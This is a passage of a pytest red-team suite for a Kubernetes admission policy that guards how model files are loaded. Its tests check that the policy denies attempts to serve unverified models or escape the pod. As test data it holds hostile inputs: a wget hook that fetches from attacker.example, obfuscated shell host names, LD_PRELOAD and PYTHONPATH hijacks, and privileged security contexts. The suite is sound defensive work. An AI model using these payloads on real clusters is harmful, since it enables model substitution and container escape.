"""Red team of the whole-workload policy: holes found on a fresh `mlseal demo` workdir.

Each attack starts from a workload the policy admits (the good model, loaded through the
verifying loader, allowed images) and changes one thing that lets the pod serve bytes
the loader never verified, or lets it escape the pod: an exec hook or probe that fetches
another model, a location split across `$(VAR)` references or hidden in a `valueFrom`
variable, a URL without a scheme, a model in a configMap volume, an environment or mount
that changes what code the loader runs, a privileged container, an UPDATE that rides on
a deletion. Every one of them was admitted; each is denied now with a reason naming the
container and field. The legitimate counterparts (ordinary probes and hooks, `$$`
escapes, downward-API names, service-account tokens, TLS secrets a policy allows, the
shipped example manifests) are admitted, so the fixes do not deny normal workloads.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mlseal.admission import Reason, load_policy
from mlseal.admission.policy import Policy
from mlseal.admission.workload import check_workload, kube_expand, remote_location
from mlseal.errors import ConfigurationError
from tests.fixtures_admission import (
    LOADER_IMAGE,
    SERVER_IMAGE,
    AdmissionWorld,
    isvc,
    pod_template,
    review,
    write_policy,
)
from tests.test_workload import check, denied, good, kserve_pod, serving_runtime, wrap
from tests.test_workload_webhook import _controller

EVIL_URL = "https://attacker.example/model.joblib"
SHA_FIELD = "metadata.annotations['mlseal.dev/model-sha256']"


def policy(world: AdmissionWorld, name: str, **extra: Any) -> Policy:
    return load_policy(write_policy(world.dir, name, **extra))


def deployment_with(world: AdmissionWorld, **server: Any) -> dict[str, Any]:
    """The admitted Deployment with fields of its server container replaced."""
    spec = pod_template(good(world))
    spec["containers"][0].update(server)
    return wrap("Deployment", spec, good(world))


def server(obj: dict[str, Any]) -> dict[str, Any]:
    c: dict[str, Any] = obj["spec"]["template"]["spec"]["containers"][0]
    return c


def pod_spec(obj: dict[str, Any]) -> dict[str, Any]:
    s: dict[str, Any] = obj["spec"]["template"]["spec"]
    return s


def the_loader(obj: dict[str, Any]) -> dict[str, Any]:
    c: dict[str, Any] = obj["spec"]["template"]["spec"]["initContainers"][0]
    return c


def admitted(world: AdmissionWorld, obj: dict[str, Any], p: Policy | None = None) -> None:
    d = check(world, obj, p)
    assert d.allowed, d.reasons


# --- 1. lifecycle hooks and exec probes ----------------------------------------------------

HANDLERS = {
    "postStart": ("lifecycle", "postStart"),
    "preStop": ("lifecycle", "preStop"),
    "livenessProbe": ("livenessProbe",),
    "readinessProbe": ("readinessProbe",),
    "startupProbe": ("startupProbe",),
}


def _set_handler(c: dict[str, Any], handler: str, command: list[str]) -> str:
    path = HANDLERS[handler]
    node = c
    for key in path[:-1]:
        node = node.setdefault(key, {})
    node[path[-1]] = {"exec": {"command": command}}
    return ".".join(path) + ".exec.command"


def _carrier(world: AdmissionWorld, carrier: str) -> tuple[dict[str, Any], dict[str, Any], str]:
    """(object, the container to change, its field path) for each kind that runs containers."""
    if carrier == "Deployment":
        obj = wrap("Deployment", pod_template(good(world)), good(world))
        return obj, server(obj), "spec.template.spec.containers[0]"
    if carrier == "predictor.containers":
        obj = isvc(good(world), form="container")
        return obj, obj["spec"]["predictor"]["containers"][0], "spec.predictor.containers[0]"
    if carrier == "predictor.model":
        obj = isvc(good(world))
        return obj, obj["spec"]["predictor"]["model"], "spec.predictor.model"
    if carrier in ("transformer", "explainer"):
        obj = isvc(good(world))
        obj["spec"][carrier] = {"containers": [{"name": carrier, "image": SERVER_IMAGE}]}
        return obj, obj["spec"][carrier]["containers"][0], f"spec.{carrier}.containers[0]"
    obj = serving_runtime(carrier, "kserve-tritonserver", SERVER_IMAGE)
    return obj, obj["spec"]["containers"][0], "spec.containers[0]"


CARRIERS = ["Deployment", "predictor.containers", "predictor.model", "transformer", "explainer", "ServingRuntime",
            "ClusterServingRuntime"]


@pytest.mark.parametrize("handler", list(HANDLERS))
@pytest.mark.parametrize("carrier", CARRIERS)
def test_an_exec_hook_or_probe_that_fetches_another_model_is_denied(admission_world: AdmissionWorld, carrier: str,
                                                                   handler: str) -> None:
    """A postStart hook (or a probe, run all the pod's life) downloads another model into place."""
    w = admission_world
    p = policy(w, "components.yaml", transformers="allow", explainers="allow")
    obj, c, where = _carrier(w, carrier)
    field = _set_handler(c, handler, ["sh", "-c", f"wget -qO /tmp/m.joblib {EVIL_URL} && kill -HUP 1"])
    denied(w, obj, Reason.MODEL_OVERRIDE, f"{where}.{field}[2] names the remote location", "attacker.example",
           policy=p)


@pytest.mark.parametrize("carrier", CARRIERS)
def test_ordinary_hooks_and_probes_are_admitted(admission_world: AdmissionWorld, carrier: str) -> None:
    w = admission_world
    p = policy(w, "components.yaml", transformers="allow", explainers="allow")
    obj, c, _ = _carrier(w, carrier)
    c["lifecycle"] = {"preStop": {"exec": {"command": ["sleep", "5"]}},
                      "postStart": {"exec": {"command": ["sh", "-c", "curl -sf localhost:8080/v2/health/live"]}}}
    c["readinessProbe"] = {"exec": {"command": ["sh", "-c", "curl -sf http://127.0.0.1:8080/v2/health/ready"]}}
    c["livenessProbe"] = {"httpGet": {"path": "/v2/health/live", "port": 8080}}
    c["startupProbe"] = {"exec": {"command": ["cat", "/mnt/models/ready"]}}
    admitted(w, obj, p)


def test_the_loader_runs_no_hooks_or_probes(admission_world: AdmissionWorld) -> None:
    obj = wrap("Deployment", pod_template(good(admission_world)), good(admission_world))
    _set_handler(the_loader(obj), "postStart", ["sh", "-c", "cp -r /evil/. /mnt/models"])
    denied(admission_world, obj, Reason.BAD_LOADER, "spec.template.spec.initContainers[0].lifecycle.postStart")


# --- 2. $(VAR) expansion ---------------------------------------------------------------------

@pytest.mark.parametrize(("env", "change", "field"), [
    ([{"name": "A", "value": "s3:"}, {"name": "B", "value": "//attacker/model.joblib"}],
     {"args": ["--model=$(A)$(B)"]}, "args[0]"),
    ([{"name": "A", "value": "https:"}, {"name": "B", "value": "//attacker.example/m.onnx"}],
     {"command": ["serve", "$(A)$(B)"]}, "command[1]"),
    # an env value expands the variables defined before it, and the command expands that
    ([{"name": "A", "value": "s3:"}, {"name": "C", "value": "$(A)//attacker/m"}], {"args": ["$(C)"]}, "args[0]"),
    # a shell expands the container's variables at run time
    ([{"name": "A", "value": "s3:"}, {"name": "B", "value": "//attacker/m"}],
     {"command": ["sh", "-c", "exec serve --model $A$B"]}, "command[2]"),
    ([{"name": "A", "value": "gs:"}, {"name": "B", "value": "//attacker/m"}],
     {"command": ["sh", "-c", "exec serve --model ${A}${B}"]}, "command[2]"),
])
def test_a_location_split_across_variables_is_expanded_and_denied(admission_world: AdmissionWorld,
                                                                  env: list[dict[str, str]], change: dict[str, Any],
                                                                  field: str) -> None:
    obj = deployment_with(admission_world, env=env, **change)
    denied(admission_world, obj, Reason.MODEL_OVERRIDE,
           f"spec.template.spec.containers[0].{field} names the remote location", "attacker")


def test_escaped_and_harmless_references_are_admitted(admission_world: AdmissionWorld) -> None:
    obj = deployment_with(admission_world, env=[
        {"name": "A", "value": "s3:"}, {"name": "B", "value": "//attacker/model.joblib"},
        {"name": "PORT", "value": "8080"},
        {"name": "POD_NAME", "valueFrom": {"fieldRef": {"fieldPath": "metadata.name"}}},
        {"name": "POD_IP", "valueFrom": {"fieldRef": {"fieldPath": "status.podIP"}}},
        {"name": "CPUS", "valueFrom": {"resourceFieldRef": {"resource": "limits.cpu"}}},
    ], args=["--literal=$$(A)$$(B)", "--http-port=$(PORT)", "--name=$(POD_NAME)", "--workers=$(CPUS)",
             "--advertise=http://$(POD_IP):$(PORT)/", "--model-dir=/mnt/models", "--undefined=$(NOT_SET)"])
    admitted(admission_world, obj)


#: Kubernetes' own vectors (third_party/forked/golang/expansion/expand_test.go)
EXPANSION = {"VAR_A": "A", "VAR_B": "B", "VAR_EMPTY": "", "VAR_REF": "$(VAR_A)"}


@pytest.mark.parametrize(("text", "want"), [
    ("$(VAR_A)", "A"), ("___$(VAR_B)___", "___B___"), ("$(VAR_A)-$(VAR_A)", "A-A"), ("$(VAR_EMPTY)", ""),
    ("$(VAR_DNE)", "$(VAR_DNE)"), ("$$(VAR_A)", "$(VAR_A)"), ("$$$(VAR_A)", "$A"), ("$$$$(VAR_A)", "$$(VAR_A)"),
    ("f000-$$VAR_A", "f000-$VAR_A"), ("$(VAR_A", "$(VAR_A"), ("$VAR_A", "$VAR_A"), ("$(VAR_REF)", "$(VAR_A)"),
    ("$()", "$()"), ("$(VAR_A)$", "A$"), ("$", "$"), ("$(", "$("), ("$(VAR_A)$(VAR_B", "A$(VAR_B"),
])
def test_expansion_follows_kubernetes(text: str, want: str) -> None:
    assert kube_expand(text, EXPANSION.get) == want


def _go_expand(text: str, mapping: dict[str, str]) -> str:
    """A line-by-line transliteration of Kubernetes' Expand (bytes, checkpoints and all)."""
    buf, checkpoint, cursor = [], 0, 0
    while cursor < len(text):
        if text[cursor] == "$" and cursor + 1 < len(text):
            buf.append(text[checkpoint:cursor])
            rest = text[cursor + 1:]
            if rest[0] == "$":
                read, is_var, advance = rest[0:1], False, 1
            elif rest[0] == "(":
                read, is_var, advance = "$(", False, 1
                for i in range(1, len(rest)):
                    if rest[i] == ")":
                        read, is_var, advance = rest[1:i], True, i + 1
                        break
            else:
                read, is_var, advance = "$" + rest[0], False, 1
            buf.append(mapping.get(read, f"$({read})") if is_var else read)
            cursor += advance
            checkpoint = cursor + 1
        cursor += 1
    return "".join(buf) + text[checkpoint:]


@settings(max_examples=400, deadline=None)
@given(st.text(alphabet="$()AB_x ", max_size=40))
def test_expansion_matches_the_kubelets_on_any_text(text: str) -> None:
    mapping = {"A": "s3:", "B": "//b", "A_B": "$(A)"}
    assert kube_expand(text, mapping.get) == _go_expand(text, mapping)


# --- 3. valueFrom variables admission cannot see ------------------------------------------------

@pytest.mark.parametrize("source", [
    {"configMapKeyRef": {"name": "cfg", "key": "model"}},
    {"secretKeyRef": {"name": "s", "key": "model"}},
])
@pytest.mark.parametrize("use", [["--model=$(MODEL)"], ["sh", "-c", "exec serve --model \"$MODEL\""]])
def test_a_value_from_a_config_map_or_secret_on_the_command_line_is_denied(
        admission_world: AdmissionWorld, source: dict[str, Any], use: list[str]) -> None:
    obj = deployment_with(admission_world, env=[{"name": "MODEL", "valueFrom": source}],
                          **({"args": use} if len(use) == 1 else {"command": use}))
    kind = next(iter(source))
    denied(admission_world, obj, Reason.MODEL_OVERRIDE, "spec.template.spec.containers[0].env[0]", kind,
           "MODEL")


def test_a_literal_variable_built_from_a_hidden_one_is_hidden_too(admission_world: AdmissionWorld) -> None:
    obj = deployment_with(admission_world, env=[
        {"name": "HIDDEN", "valueFrom": {"configMapKeyRef": {"name": "cfg", "key": "u"}}},
        {"name": "URL", "value": "$(HIDDEN)"}], args=["--model=$(URL)"])
    denied(admission_world, obj, Reason.MODEL_OVERRIDE, "HIDDEN", "configMapKeyRef")


def test_downward_api_values_are_resolved_from_the_object(admission_world: AdmissionWorld) -> None:
    """An annotation is what the reviewed object holds; a label can change without a review."""
    obj = deployment_with(admission_world, env=[
        {"name": "X", "valueFrom": {"fieldRef": {"fieldPath": "metadata.annotations['evil']"}}}], args=["$(X)"])
    obj["spec"]["template"]["metadata"]["annotations"]["evil"] = "s3://attacker/model.joblib"
    denied(admission_world, obj, Reason.MODEL_OVERRIDE, "args[0] names the remote location 's3://attacker/")
    obj = deployment_with(admission_world, env=[
        {"name": "L", "valueFrom": {"fieldRef": {"fieldPath": "metadata.labels['host']"}}}], args=["$(L)/model"])
    obj["spec"]["template"]["metadata"]["labels"]["host"] = "attacker.example.com"
    denied(admission_world, obj, Reason.MODEL_OVERRIDE, "metadata.labels['host']", "without")


def test_a_secret_the_command_line_does_not_reference_is_admitted(admission_world: AdmissionWorld) -> None:
    obj = deployment_with(admission_world, env=[
        {"name": "API_TOKEN", "valueFrom": {"secretKeyRef": {"name": "s", "key": "token"}}},
        {"name": "LOG_LEVEL", "valueFrom": {"configMapKeyRef": {"name": "cfg", "key": "level"}}}])
    admitted(admission_world, obj)


# --- 4. locations without a scheme --------------------------------------------------------------

@pytest.mark.parametrize(("change", "field", "shown"), [
    ({"command": ["sh", "-c", "wget evil.example.com/model -O /tmp/m && serve /tmp/m"]}, "command[2]",
     "evil.example.com/model"),
    ({"args": ["--model=minio.minio.svc:9000/models/evil"]}, "args[0]", "minio.minio.svc:9000/models/evil"),
    ({"args": ["--model", "10.1.2.3/evil/model.onnx"]}, "args[1]", "10.1.2.3/evil/model.onnx"),
    ({"args": ["--model=evil-minio:9000/bucket/m"]}, "args[0]", "evil-minio:9000/bucket/m"),
    ({"args": ["--model='attacker.example:443/m.onnx'"]}, "args[0]", "attacker.example:443/m.onnx"),
    ({"args": ["--model=[2001:db8::7]:9000/m"]}, "args[0]", "[2001:db8::7]:9000/m"),
])
def test_a_url_without_a_scheme_is_a_remote_location(admission_world: AdmissionWorld, change: dict[str, Any],
                                                     field: str, shown: str) -> None:
    obj = deployment_with(admission_world, **change)
    denied(admission_world, obj, Reason.MODEL_OVERRIDE,
           f"spec.template.spec.containers[0].{field} names the remote location {shown!r}")


@pytest.mark.parametrize(("text", "want"), [
    ("wget -O /tmp/m evil.example.com/model", "evil.example.com/model"),
    ("curl u:p@evil.example.com/m", "evil.example.com/m"),
    ("--src=evil.example.com./m", "evil.example.com./m"),
    ("s3://bucket/m", "s3://bucket/m"),
    ("--model=s3://bucket/m", "s3://bucket/m"),
    ("x.s3://bucket/m", "x.s3://bucket/m"),
    ("[10.0.0.7:9000/m]", "10.0.0.7:9000/m"), ("(evil.example.com/m)", "evil.example.com/m"),
    ("xn--80ak6aa92e.xn--p1ai/m", "xn--80ak6aa92e.xn--p1ai/m"),
    ("/mnt/models/a.b/c", None), ("a.b/c", None), ("model.v2/weights", None), ("--ratio=0.5/1", None),
    ("localhost:8080/health", None), ("http://[::1]:8080/x", None), ("1.2.3.4.5/x", None),
    ("evil_host.example.com/m", None), ("[::1]:8080/health", None), ("${HOME}/models/m.onnx", None),
    ("$(POD_NAME)-$(POD_NAMESPACE)/x", None), ("sh -c 'cd $HOME && exec serve ./model.onnx'", None),
    # IPv4 shorthand that resolvers accept (inet_aton): with a port, or written in hex or octal
    ("wget 10.1:9000/m", "10.1:9000/m"), ("wget 167772161:80/m", "167772161:80/m"),
    ("wget 0xa.0.0.1/m", "0xa.0.0.1/m"), ("wget 0xa000001/m", "0xa000001/m"), ("wget 012.0.0.1/m", "012.0.0.1/m"),
    # left to the egress NetworkPolicy: bare decimal shorthand reads like a number before a path
    ("serve 20240101/model.onnx", None), ("wget 10.1/m", None),
    ("wget 012.1/m", "012.1/m"), ("wget 01.2.3/m", "01.2.3/m"),  # octal parts, fewer than four
    ("wget 1.2.3.4.5:80/m", None),  # five numbers are no address (and no DNS name either)
])
def test_remote_location_vectors(text: str, want: str | None) -> None:
    assert remote_location(text) == want


@pytest.mark.parametrize("script", [
    "wget -O /tmp/m ${UNSET}.evil.example.com/m && serve /tmp/m",
    "wget -O /tmp/m $(hostname).evil.example.com/m && serve /tmp/m",
    "wget -O /tmp/m `hostname`.evil.example.com/m && serve /tmp/m",
    "wget -O /tmp/m $UNSET.evil.example.com/m && serve /tmp/m",
    "wget -O /tmp/m ev''il.example.com/m && serve /tmp/m",
    'wget -O /tmp/m ev""il.example.com/m && serve /tmp/m',
    "wget -O /tmp/m ev\\il.example.com/m && serve /tmp/m",
])
def test_a_shell_cannot_hide_a_host_behind_an_expansion_or_quotes(admission_world: AdmissionWorld,
                                                                  script: str) -> None:
    obj = deployment_with(admission_world, command=["sh", "-c", script])
    denied(admission_world, obj, Reason.MODEL_OVERRIDE, "spec.template.spec.containers[0].command[2] names the "
           "remote location", "il.example.com/m")


def test_file_paths_and_endpoints_are_not_remote_locations(admission_world: AdmissionWorld) -> None:
    obj = deployment_with(admission_world, args=[
        "--model=/mnt/models/model.joblib", "model.joblib", "--model-dir=/mnt/models", "./model.savedmodel/1",
        "--grpc-port=8081", "--bind=0.0.0.0:8080", "--otlp-endpoint=otel-collector.monitoring.svc:4317",
        "--health=localhost:8080/v2/health", "--peer=127.0.0.1:8081/x", "--log-format=json", "--ratio=0.5/1",
    ], env=[{"name": "TZ", "value": "Europe/Berlin"},
            {"name": "METRICS_DOMAIN", "value": "knative.dev/internal/serving"}])
    admitted(admission_world, obj)


# --- 5. model bytes in object-backed volumes ------------------------------------------------------

def _serve_from_volume(obj: dict[str, Any], volume: dict[str, Any], container: dict[str, Any],
                       volumes: list[dict[str, Any]]) -> None:
    volumes.append({"name": "weights", **volume})
    container.setdefault("volumeMounts", []).append({"name": "weights", "mountPath": "/srv/m", "readOnly": True})
    container["args"] = ["--model-dir=/srv/m"]


OBJECT_VOLUMES: dict[str, dict[str, Any]] = {
    "configMap": {"configMap": {"name": "weights"}},
    "secret": {"secret": {"secretName": "weights"}},
    "downwardAPI": {"downwardAPI": {"items": [{"path": "model.json",
                                               "fieldRef": {"fieldPath": "metadata.annotations['model']"}}]}},
    "projected": {"projected": {"sources": [{"configMap": {"name": "weights"}}]}},
}


@pytest.mark.parametrize("kind", list(OBJECT_VOLUMES))
def test_a_model_in_a_config_map_volume_is_denied(admission_world: AdmissionWorld, kind: str) -> None:
    w = admission_world
    obj = wrap("Deployment", pod_template(good(w)), good(w))
    _serve_from_volume(obj, OBJECT_VOLUMES[kind], server(obj), pod_spec(obj)["volumes"])
    denied(w, obj, Reason.MODEL_VOLUME, "spec.template.spec.containers[0].volumeMounts[1]", "'weights'")
    m = isvc(good(w))
    pred = m["spec"]["predictor"]
    _serve_from_volume(m, OBJECT_VOLUMES[kind], pred["model"], pred.setdefault("volumes", []))
    denied(w, m, Reason.MODEL_VOLUME, "spec.predictor.model.volumeMounts[0]", "'weights'")
    m = isvc(good(w), form="container")
    pred = m["spec"]["predictor"]
    _serve_from_volume(m, OBJECT_VOLUMES[kind], pred["containers"][0], pred.setdefault("volumes", []))
    denied(w, m, Reason.MODEL_VOLUME, "spec.predictor.containers[0].volumeMounts[0]")
    rt = serving_runtime("ServingRuntime", "kserve-tritonserver", SERVER_IMAGE)
    _serve_from_volume(rt, OBJECT_VOLUMES[kind], rt["spec"]["containers"][0], rt["spec"].setdefault("volumes", []))
    denied(w, rt, Reason.MODEL_VOLUME, "spec.containers[0].volumeMounts[0]")


def test_service_account_tokens_and_pod_names_are_admitted(admission_world: AdmissionWorld) -> None:
    """What the API server itself mounts (kube-api-access) and API-controlled downward-API files."""
    w = admission_world
    obj = wrap("Deployment", pod_template(good(w)), good(w))
    spec = pod_spec(obj)
    spec["volumes"] += [
        {"name": "kube-api-access-x7k2p", "projected": {"defaultMode": 420, "sources": [
            {"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"}},
            {"configMap": {"name": "kube-root-ca.crt", "items": [{"key": "ca.crt", "path": "ca.crt"}]}},
            {"downwardAPI": {"items": [{"path": "namespace", "fieldRef": {"fieldPath": "metadata.namespace"}}]}}]}},
        {"name": "podinfo", "downwardAPI": {"items": [{"path": "labels", "fieldRef": {"fieldPath": "metadata.labels"}},
                                                       {"path": "name", "fieldRef": {"fieldPath": "metadata.name"}}]}},
        {"name": "scratch", "emptyDir": {"medium": "Memory"}},
    ]
    for c in (*spec["initContainers"], *spec["containers"]):
        c["volumeMounts"].append({"name": "kube-api-access-x7k2p", "readOnly": True,
                                  "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"})
    server(obj)["volumeMounts"] += [{"name": "podinfo", "mountPath": "/etc/podinfo", "readOnly": True},
                                    {"name": "scratch", "mountPath": "/tmp"}]
    admitted(w, obj)


def test_the_policy_may_allow_secret_volumes_for_tls(admission_world: AdmissionWorld) -> None:
    w = admission_world
    p = policy(w, "tls.yaml", volumes=["secret"])
    obj = wrap("Deployment", pod_template(good(w)), good(w))
    pod_spec(obj)["volumes"].append({"name": "tls", "secret": {"secretName": "server-tls"}})
    server(obj)["volumeMounts"].append({"name": "tls", "mountPath": "/etc/tls", "readOnly": True})
    denied(w, obj, Reason.MODEL_VOLUME, "volumes: [secret]")
    admitted(w, obj, p)
    cm = copy.deepcopy(obj)
    pod_spec(cm)["volumes"].append({"name": "cfg", "configMap": {"name": "weights"}})
    server(cm)["volumeMounts"].append({"name": "cfg", "mountPath": "/srv/m", "readOnly": True})
    denied(w, cm, Reason.MODEL_VOLUME, "spec.template.spec.containers[0].volumeMounts[2]", policy=p)


@pytest.mark.parametrize(("volumes", "words"), [
    (["hostPath"], "hostPath"),
    (["configmap"], "not a volume type"),
    ("secret", "must be a list"),
])
def test_the_volumes_policy_key_is_checked(admission_world: AdmissionWorld, volumes: Any, words: str) -> None:
    with pytest.raises(ConfigurationError, match=words):
        policy(admission_world, "badvol.yaml", volumes=volumes)


# --- 6. the loader's environment and mounts ------------------------------------------------------

@pytest.mark.parametrize(("name", "value"), [
    ("PATH", "/hooks:/usr/local/bin:/usr/bin"),
    ("PYTHONPATH", "/hooks"),
    ("PYTHONSTARTUP", "/hooks/x.py"),
    ("LD_PRELOAD", "/hooks/evil.so"),
    ("HOME", "/hooks"),
    ("AWS_CONFIG_FILE", "/hooks/aws-config"),
    ("AWS_SHARED_CREDENTIALS_FILE", "/hooks/credentials"),
    ("GOOGLE_EXTERNAL_ACCOUNT_ALLOW_EXECUTABLES", "1"),
    ("STORAGE_URI", "s3://attacker/m"),
])
def test_the_loaders_environment_is_an_allow_list(admission_world: AdmissionWorld, name: str, value: str) -> None:
    w = admission_world
    obj = wrap("Deployment", pod_template(good(w)), good(w))
    pod_spec(obj)["volumes"].append({"name": "hooks", "configMap": {"name": "hooks"}})
    ld = the_loader(obj)
    ld["env"].append({"name": name, "value": value})
    denied(w, obj, Reason.BAD_LOADER, f"spec.template.spec.initContainers[0].env[1] sets {name}")


@pytest.mark.parametrize(("mount", "volume", "words"), [
    ({"mountPath": "/usr/local/lib/python3.12/site-packages/sitecustomize.py", "subPath": "x.py",
      "readOnly": True}, {"configMap": {"name": "hooks"}}, "sitecustomize.py"),
    ({"mountPath": "/usr/local/bin", "readOnly": True}, {"configMap": {"name": "hooks"}}, "/usr/local/bin"),
    ({"mountPath": "/var/run/mlseal/loader-key"}, {"secret": {"secretName": "k"}}, "readOnly: true"),
    ({"mountPath": "/var/run/mlseal/scratch", "readOnly": True}, {"emptyDir": {}}, "emptyDir"),
    ({"mountPath": "/etc/mlseal/../../usr/lib/python3", "readOnly": True}, {"configMap": {"name": "hooks"}},
     "/usr/lib/python3"),
])
def test_the_loaders_mounts_are_the_model_and_its_credentials(admission_world: AdmissionWorld,
                                                             mount: dict[str, Any], volume: dict[str, Any],
                                                             words: str) -> None:
    w = admission_world
    obj = wrap("Deployment", pod_template(good(w)), good(w))
    pod_spec(obj)["volumes"].append({"name": "extra", **volume})
    the_loader(obj)["volumeMounts"].append({"name": "extra", **mount})
    denied(w, obj, Reason.BAD_LOADER, "spec.template.spec.initContainers[0].volumeMounts[1]", words)


def test_the_loaders_storage_settings_are_admitted(admission_world: AdmissionWorld) -> None:
    """KServe's credential builder (S3 env, GCS key file, CA bundle), IRSA, Vault and --record."""
    w = admission_world
    obj = kserve_pod(w, good(w))
    spec = obj["spec"]
    ld = spec["initContainers"][0]
    ld["args"] += ["--record"]
    ld["env"] += [{"name": n, "value": v} for n, v in [
        ("S3_ENDPOINT", "minio.kubeflow:9000"), ("S3_USE_HTTPS", "0"), ("S3_VERIFY_SSL", "0"),
        ("AWS_ENDPOINT_URL", "http://minio-service.kubeflow:9000"), ("AWS_DEFAULT_REGION", "us-east-1"),
        ("AWS_ROLE_ARN", "arn:aws:iam::123456789012:role/models"),
        ("AWS_WEB_IDENTITY_TOKEN_FILE", "/var/run/secrets/eks.amazonaws.com/serviceaccount/token"),
        ("AWS_STS_REGIONAL_ENDPOINTS", "regional"), ("AWS_CA_BUNDLE", "/etc/ssl/custom-certs/cabundle.crt"),
        ("GOOGLE_APPLICATION_CREDENTIALS", "/var/secrets/gcloud-application-credentials.json"),
        ("HTTPS_PROXY", "http://proxy.corp:3128"), ("NO_PROXY", "minio-service.kubeflow"),
        ("MLSEAL_POLICY", "/etc/mlseal/policy.yaml"), ("MLSEAL_CHECKPOINT", "mlseal.dev/ledger\n42\nabc=\n"),
        ("MLSEAL_WORKLOAD", "m"), ("MLSEAL_SIGNING_KEY", "/var/run/mlseal/loader-key/key.pem"),
        ("VAULT_ADDR", "https://vault.vault:8200"), ("MLSEAL_VAULT_K8S_ROLE", "mlseal-loader"),
    ]]
    ld["env"] += [
        {"name": "POD_NAMESPACE", "valueFrom": {"fieldRef": {"fieldPath": "metadata.namespace"}}},
        {"name": "AWS_ACCESS_KEY_ID", "valueFrom": {"secretKeyRef": {"name": "s3", "key": "id"}}},
        {"name": "AWS_SECRET_ACCESS_KEY", "valueFrom": {"secretKeyRef": {"name": "s3", "key": "secret"}}},
        {"name": "MLSEAL_LEDGER", "valueFrom": {"secretKeyRef": {"name": "ledger", "key": "url"}}},
    ]
    spec["volumes"] += [
        {"name": "mlseal-policy", "configMap": {"name": "mlseal-loader-policy"}},
        {"name": "user-gcp-sa", "secret": {"secretName": "gcp"}},
        {"name": "cabundle-cert", "configMap": {"name": "cabundle"}},
        {"name": "aws-iam-token", "projected": {"sources": [{"serviceAccountToken": {
            "audience": "sts.amazonaws.com", "expirationSeconds": 86400, "path": "token"}}]}},
        {"name": "loader-key", "secret": {"secretName": "mlseal-loader-key"}},
    ]
    ld["volumeMounts"] += [
        {"name": "mlseal-policy", "mountPath": "/etc/mlseal", "readOnly": True},
        {"name": "user-gcp-sa", "mountPath": "/var/secrets/", "readOnly": True},
        {"name": "cabundle-cert", "mountPath": "/etc/ssl/custom-certs", "readOnly": True},
        {"name": "aws-iam-token", "mountPath": "/var/run/secrets/eks.amazonaws.com/serviceaccount", "readOnly": True},
        {"name": "loader-key", "mountPath": "/var/run/mlseal/loader-key", "readOnly": True},
    ]
    admitted(w, obj)


def test_a_claim_only_the_loader_reads_is_a_verified_source(admission_world: AdmissionWorld) -> None:
    """docs/fetch.md: pvc:// through the init-container form, the claim mounted at /mnt/pvc for the loader only."""
    w = admission_world
    rules = w.policy.rules_for("prod")
    obj = wrap("Deployment", pod_template(good(w), uri="pvc://models/good/model.joblib"), good(w))
    pod_spec(obj)["volumes"].append({"name": "source", "persistentVolumeClaim": {"claimName": "models",
                                                                                 "readOnly": True}})
    the_loader(obj)["volumeMounts"].append({"name": "source", "mountPath": "/mnt/pvc", "readOnly": True})
    findings, ref = check_workload(obj, rules)
    assert findings == [] and ref is not None and ref.uri == "pvc://models/good/model.joblib", findings
    # the server may not read the claim, nor may the loader write it or mount it elsewhere
    served = copy.deepcopy(obj)
    server(served)["volumeMounts"].append({"name": "source", "mountPath": "/srv/m", "readOnly": True})
    assert [f.code for f in check_workload(served, rules)[0]] == [Reason.MODEL_VOLUME]
    writable = copy.deepcopy(obj)
    the_loader(writable)["volumeMounts"][1]["readOnly"] = False
    assert Reason.BAD_LOADER in {f.code for f in check_workload(writable, rules)[0]}
    elsewhere = copy.deepcopy(obj)
    the_loader(elsewhere)["volumeMounts"][1]["mountPath"] = "/var/run/secrets/pvc"
    assert Reason.BAD_LOADER in {f.code for f in check_workload(elsewhere, rules)[0]}


def test_the_policy_may_extend_the_loaders_environment(admission_world: AdmissionWorld) -> None:
    w = admission_world
    obj = wrap("Deployment", pod_template(good(w)), good(w))
    the_loader(obj)["env"].append({"name": "AWS_S3_DISABLE_MULTIREGION_ACCESS_POINTS", "value": "true"})
    denied(w, obj, Reason.BAD_LOADER, "AWS_S3_DISABLE_MULTIREGION_ACCESS_POINTS", "loader.env")
    p = policy(w, "loaderenv.yaml", loader={"image": LOADER_IMAGE, "env": ["AWS_S3_DISABLE_MULTIREGION_ACCESS_POINTS"],
                                            "mounts": ["/opt/creds"]})
    admitted(w, obj, p)
    pod_spec(obj)["volumes"].append({"name": "creds", "secret": {"secretName": "c"}})
    the_loader(obj)["volumeMounts"].append({"name": "creds", "mountPath": "/opt/creds/s3", "readOnly": True})
    admitted(w, obj, p)
    for name in ("PYTHONPATH", "LD_LIBRARY_PATH", "PATH", "AWS_CONFIG_FILE"):
        with pytest.raises(ConfigurationError, match=f"loader.env.*{name}"):
            policy(w, "badloader.yaml", loader={"image": LOADER_IMAGE, "env": [name]})
    with pytest.raises(ConfigurationError, match=r"loader\.mounts"):
        policy(w, "badloader.yaml", loader={"image": LOADER_IMAGE, "mounts": ["/"]})


# --- 7. pod security ---------------------------------------------------------------------------------

def _pod_level(key: str, value: Any) -> Any:
    return lambda obj: pod_spec(obj).__setitem__(key, value)


def _server_sc(**sc: Any) -> Any:
    return lambda obj: server(obj).setdefault("securityContext", {}).update(sc)


POD_SECURITY = [
    (_pod_level("hostPID", True), "spec.template.spec.hostPID"),
    (_pod_level("hostIPC", True), "spec.template.spec.hostIPC"),
    (_pod_level("hostNetwork", True), "spec.template.spec.hostNetwork"),
    (_server_sc(privileged=True), "spec.template.spec.containers[0].securityContext.privileged"),
    (lambda obj: the_loader(obj).__setitem__("securityContext", {"privileged": True}),
     "spec.template.spec.initContainers[0].securityContext.privileged"),
    (_server_sc(capabilities={"add": ["NET_BIND_SERVICE", "SYS_ADMIN"]}),
     "spec.template.spec.containers[0].securityContext.capabilities.add"),
    (_server_sc(allowPrivilegeEscalation=True), "securityContext.allowPrivilegeEscalation"),
    (_server_sc(procMount="Unmasked"), "securityContext.procMount"),
    (_server_sc(seccompProfile={"type": "Unconfined"}), "containers[0].securityContext.seccompProfile"),
    (_server_sc(appArmorProfile={"type": "Unconfined"}), "containers[0].securityContext.appArmorProfile"),
    (_server_sc(seLinuxOptions={"type": "spc_t"}), "containers[0].securityContext.seLinuxOptions"),
    (_server_sc(windowsOptions={"hostProcess": True}), "windowsOptions.hostProcess"),
    (_pod_level("securityContext", {"seccompProfile": {"type": "Unconfined"}}),
     "spec.template.spec.securityContext.seccompProfile"),
